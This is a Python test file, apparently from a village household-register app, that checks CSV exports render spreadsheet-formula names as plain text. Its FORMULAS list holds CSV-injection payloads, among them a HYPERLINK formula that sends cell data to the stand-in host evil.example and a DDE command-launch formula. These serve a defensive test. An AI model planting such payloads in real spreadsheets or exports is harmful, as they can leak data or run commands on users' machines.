"""Outputs are inert: a name that looks like a spreadsheet formula is written as text in every CSV."""

from __future__ import annotations

import csv
import io
import random
from typing import Any

import pytest
from sqlalchemy import Engine

from moralbank.domain.identity import synthetic_id
from moralbank.render.formats import inert_cell
from tests.clock import freeze_today
from tests.runner import ok
from tests.town import TODAY, book, build_register

FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_starter_is_written_as_text(value: str) -> None:
    assert inert_cell(value) == "'" + value
    assert inert_cell(-5) == -5 and inert_cell("南伦村") == "南伦村" and inert_cell("a=b") == "a=b"
    assert inert_cell("-10") == "-10" and inert_cell("+3.5") == "+3.5"  # a signed number stays a number


def test_formula_names_reach_no_csv_as_formulas(run: Any, engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    freeze_today(monkeypatch, TODAY)
    build_register(engine)
    ids = iter(synthetic_id(random.Random(seed)) for seed in range(900, 999))
    for number, name in enumerate(FORMULAS, start=1):
        code = f"NL9{number:02d}"
        ok(run("household", "add", code, "--village", "NL", "--head-name", name, "--id-number", next(ids)))
        book(engine, [(code, "ZY01", 1, f"inert-{number}")])
    outputs = [
        ok(run("household", "list", "--village", "NL", "--format", "csv")),
        ok(run("board", "show", "--village", "NL", "--month", "2026-10", "--format", "csv")),
    ]
    for out in outputs:
        cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
        for name in FORMULAS:
            assert "'" + name in cells  # quoted, so Excel and WPS show it as text
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
